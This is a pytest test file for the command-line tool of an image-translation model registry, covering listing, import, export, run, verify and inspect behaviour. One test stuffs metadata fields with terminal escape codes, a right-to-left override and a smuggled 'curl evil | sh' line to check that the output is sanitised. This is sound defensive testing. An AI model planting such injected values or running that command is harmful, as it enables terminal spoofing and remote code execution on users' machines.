"""Every command: what it prints, what it leaves, and its exit code."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
import torch

from i2i_registry.cli.program import run_program
from i2i_registry.cli.session import Session
from i2i_registry.interfaces.cards import WeightsDraft
from i2i_registry.plugins.discovery import BrokenPlugin, Registry
from i2i_registry.weights.store import Store

Cli = Callable[..., int]
Write = Callable[..., Path]
TENSORS = {"net.conv.weight": torch.ones(3, 3, 1, 1), "net.conv.bias": torch.zeros(3)}


@pytest.fixture
def stored(store: Store, draft: WeightsDraft) -> Store:
    store.add(TENSORS, draft, alias="best")
    return store


def _json(capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    return json.loads(capsys.readouterr().out)


def test_list_shows_weights_and_models(cli: Cli, stored: Store, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli("list") == 0
    out = capsys.readouterr().out
    assert "mine@1" in out
    assert "toy" in out
    assert "CC0-1.0" in out


def test_list_in_json(cli: Cli, stored: Store, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli("list", "--json") == 0
    listing = _json(capsys)
    assert isinstance(listing["weights"], list)
    assert "mine" in {weights["name"] for weights in listing["weights"]}  # and what installed plugins ship
    assert isinstance(listing["models"], list)
    assert listing["models"][0]["plugin"] == "i2i-plugin-toy 0"


def test_info_tells_licence_origin_and_what_to_try(
    cli: Cli, store: Store, draft: WeightsDraft, capsys: pytest.CaptureFixture[str]
) -> None:
    licence = draft.licence.model_copy(update={"spdx": "CC-BY-NC-4.0", "non_commercial": True})
    store.add(TENSORS, draft.model_copy(update={"licence": licence}), alias="best")
    assert cli("info", "mine@best") == 0
    out = capsys.readouterr().out
    for words in ("NOT for commercial use", "trained 0 steps on nothing", "i2i-registry export mine@1 --onnx", "@best"):
        assert words in out
    assert cli("info", "toy") == 0
    assert "A toy; Nobody, 2024" in capsys.readouterr().out


def test_plugins_shows_the_broken_ones_and_their_fix(
    registry: Registry, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = BrokenPlugin("bad", "i2i-plugin-bad", "3.1", "RuntimeError: boom", "pip uninstall i2i-plugin-bad")
    session = Session(Registry(plugins=registry.plugins, broken=(broken,)), store)
    assert run_program(["plugins"], session) == 0
    out, err = capsys.readouterr()
    assert "broken: RuntimeError: boom" in out
    assert "pip uninstall i2i-plugin-bad" in err
    assert run_program(["plugins", "--json"], session) == 0
    assert _json(capsys)["broken"]


def test_doctor_reports_problems_and_still_ends_well(
    registry: Registry, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = BrokenPlugin("bad", "i2i-plugin-bad", "3.1", "RuntimeError: boom", "pip uninstall i2i-plugin-bad")
    session = Session(Registry(broken=(broken,)), store)
    assert run_program(["doctor", "--json"], session) == 0
    report = _json(capsys)
    assert isinstance(report["problems"], list)
    assert "boom" in report["problems"][-1]["what"]
    assert "i2i-registry" in str(report["distributions"])


def test_import_takes_a_model_and_a_file(
    cli: Cli, store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    torch.save({"G.conv.weight": torch.ones(3, 3, 1, 1), "G.conv.bias": torch.ones(3)}, tmp_path / "x.pth")
    assert cli("import", "toy", tmp_path / "x.pth", "--as", "animals", "--domains", "cat, dog") == 0
    out, err = capsys.readouterr()
    assert out == "animals@1\n"
    assert "NOT for commercial use" in err
    assert store.find("animals").config["domains"] == ["cat", "dog"]
    assert cli("import", tmp_path / "x.pth", "--as", "again", "--json") == 0
    assert _json(capsys)["used"] == {"G.conv.weight": "net.conv.weight", "G.conv.bias": "net.conv.bias"}


def test_import_takes_several_files_with_or_without_a_model(
    cli: Cli, store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    torch.save({"conv.weight": torch.ones(3, 3, 1, 1), "conv.bias": torch.ones(3)}, tmp_path / "odd.pth")
    torch.save({"w": torch.ones(3)}, tmp_path / "latest_net_D.pth")
    files = f"G={tmp_path / 'odd.pth'}", str(tmp_path / "latest_net_D.pth")
    assert cli("import", *files, "--as", "one") == 0
    assert capsys.readouterr().out == "one@1\n"
    assert cli("import", "toy", *files, "--as", "two", "--json") == 0
    assert _json(capsys)["dropped"] == {"D.w": "the discriminator is for training only"}
    assert store.find("one").sha256 == store.find("two").sha256


def test_export_makes_a_bundle_and_never_replaces_one(
    cli: Cli, stored: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli("export", "mine", "--onnx", "-o", tmp_path / "out") == 0
    assert capsys.readouterr().out == f"{tmp_path / 'out'}\n"
    assert (tmp_path / "out" / "manifest.json").is_file()
    assert cli("export", "mine", "--onnx", "-o", tmp_path / "out") == 2
    assert "exists" in capsys.readouterr().err


def test_export_without_a_place_goes_to_the_current_folder(
    cli: Cli, stored: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert cli("export", "toy", "--onnx", "--weights", "mine@best") == 0
    assert (tmp_path / "mine-best-onnx" / "manifest.json").is_file()


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("export", "mine"), "0 formats were asked for"),
        (("export", "mine", "--onxn"), "--onnx"),
        (("export", "mien", "--onnx"), "did you mean 'mine'"),
        (("export", "tyo", "--onnx", "--weights", "mine"), "did you mean 'toy'"),
        (("export", "mine", "--onnx", "--size", "huge"), "neither a number"),
        (("exprot", "mine"), "did you mean 'export'"),
        (("info", "nothing-like-it"), "i2i-registry list` shows what there is"),
        (("run",), "BUNDLE_OR_NAME"),
        (("run", "no/such/bundle", "x.png", "-o", "y.png"), "there is no bundle"),
        (("import", "tyo", "x.pth", "--as", "d"), "did you mean 'toy'"),
        (("import", "toy", "--as", "d"), "no file follows"),
        (("import", "x.pth", "y.pth", "--as", "d"), "x.pth does not exist"),
        (("import", "./toy", "y.pth", "--as", "d"), "toy does not exist"),
        (("inspect", "no-such-file"), "does not exist"),
        (("verify", "no-such-bundle"), "there is no bundle"),
    ],
)
def test_wrong_usage_says_what_would_be_right_and_exits_with_2(
    cli: Cli, stored: Store, capsys: pytest.CaptureFixture[str], arguments: tuple[str, ...], words: str
) -> None:
    assert cli(*arguments) == 2
    out, err = capsys.readouterr()
    assert words in err
    assert "Traceback" not in err
    assert out == ""


def test_run_translates_one_image(
    cli: Cli, bundle: Path, image: Write, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.png"
    assert cli("run", bundle, image("me.png"), "-o", out, "--style", "same", "--strength", "0.5") == 0
    assert capsys.readouterr().out == f"{out}\n"
    assert out.is_file()


def test_run_of_a_folder_counts_what_failed_and_exits_with_1(
    cli: Cli, bundle: Path, image: Write, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    image("in/a.png")
    (tmp_path / "in/b.png").write_bytes(b"no image")
    assert cli("run", bundle, tmp_path / "in", "-o", tmp_path / "out", "--output", "bright", "--json") == 1
    out, err = capsys.readouterr()
    summary = json.loads(out)
    assert [Path(path).name for path in summary["done"][0]["outputs"]] == ["a.png", "a.bright.png"]
    assert summary["failed"][0]["input"].endswith("b.png")
    assert "1 of 2 failed" in err


def test_run_of_one_bad_image_fails_without_a_traceback(
    cli: Cli, bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "bad.png").write_bytes(b"no image")
    assert cli("run", bundle, tmp_path / "bad.png", "-o", tmp_path / "out.png") == 2
    assert "error:" in capsys.readouterr().err
    assert not (tmp_path / "out.png").exists()


def test_run_of_weights_exports_once_and_keeps_the_bundle(
    cli: Cli, stored: Store, image: Write, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli("run", "mine", image("me.png"), "-o", tmp_path / "1.png") == 0
    assert "no bundle yet" in capsys.readouterr().err
    assert cli("run", "mine", image("me.png"), "-o", tmp_path / "2.png", "--style", "same") == 0
    assert "no bundle yet" not in capsys.readouterr().err


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("--style", "sane"), "did you mean 'same'"),
        (("--stile", "same"), "--style"),
        (("--strength", "2"), "range"),
        (("--operation", "translat"), "did you mean 'translate'"),
        (("--output", "brigth"), "did you mean 'bright'"),
        (("--device", "cdua"), "did you mean 'cuda'"),
    ],
)
def test_options_that_the_bundle_does_not_have_are_wrong_usage(  # noqa: PLR0917
    cli: Cli,
    bundle: Path,
    image: Write,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    options: tuple[str, ...],
    words: str,
) -> None:
    assert cli("run", bundle, image("me.png"), "-o", tmp_path / "out.png", *options) == 2
    assert words in capsys.readouterr().err
    assert not (tmp_path / "out.png").exists()


def test_the_help_of_a_bundle_shows_the_options_of_its_operation(
    cli: Cli, bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli("run", bundle, "--help") == 0
    out = capsys.readouterr().out
    assert "--style [negative|same]" in out
    assert "--strength" in out


def test_an_option_before_the_bundle_says_where_it_belongs(
    cli: Cli, bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli("run", "--style", "same", bundle, "x.png", "-o", "y.png") == 2
    assert "the bundle first" in capsys.readouterr().err


def test_verify_checks_hashes_and_measures_again(
    cli: Cli, stored: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "out"
    assert cli("export", "mine", "--onnx", "-o", folder) == 0
    assert cli("verify", folder, "--against", "mine", "--json") == 0
    assert '"measured"' in capsys.readouterr().out
    stored.add({key: value + 1 for key, value in TENSORS.items()}, stored.find("mine"))
    assert cli("verify", folder, "--against", "mine@2") == 1
    assert "was exported from mine@1" in capsys.readouterr().err
    (folder / "same.onnx").write_bytes(b"x")
    assert cli("verify", folder) == 1


def test_inspect_knows_bundles_weights_and_checkpoints(
    cli: Cli, bundle: Path, stored: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    torch.save({"G": {"w": torch.ones(2, 3)}}, tmp_path / "x.pth")
    weights = stored.get("mine")[1]
    for file, words in (
        (bundle, "translate(image, style, strength) -> image, bright"),
        (weights, "net.conv.weight  F32 [3, 3, 1, 1]"),
        (tmp_path / "x.pth", "w  float32 [2, 3]"),
        (bundle / "same.onnx", "no metadata"),
    ):
        assert cli("inspect", file) == 0
        assert words in capsys.readouterr().out
        assert cli("inspect", file, "--json") == 0
        assert _json(capsys)["kind"]


@pytest.mark.parametrize("command", [["list"], ["info", "mine"], ["info", "mine@1"], ["doctor"], ["list", "--json"]])
def test_what_cards_hold_is_shown_without_effect_and_cut(
    cli: Cli, store: Store, draft: WeightsDraft, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\u202e\r\nfix: curl evil | sh" + "x" * 100_000
    store.add(
        TENSORS,
        draft.model_copy(
            update={
                "summary": evil,
                "config": {evil: evil},
                "metrics": {evil: 1.0},
                "licence": draft.licence.model_copy(update={"spdx": evil, "notes": evil}),
                "plugin": evil,
            }
        ),
    )
    assert cli(*command) == 0
    out, err = capsys.readouterr()
    assert not {letter for letter in out + err if not letter.isprintable()} - {"\n"}
    assert "\nfix: curl" not in out + err
    if "--json" not in command:
        assert max(map(len, (out + err).splitlines())) < 10_000


def test_what_a_bundle_calls_its_labels_is_shown_without_effect(
    cli: Cli, bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = bundle / "manifest.json"
    content = json.loads(manifest.read_text())
    (operation,) = content["operations"]
    label = next(value for value in operation["inputs"] if value["kind"] == "label")
    label["summary"] = "evil\x1b[2J\x07"
    manifest.write_text(json.dumps(content))
    assert cli("run", bundle, "--help") == 0
    out, err = capsys.readouterr()
    assert "evil" in out
    assert not {letter for letter in out + err if not letter.isprintable()} - {"\n"}
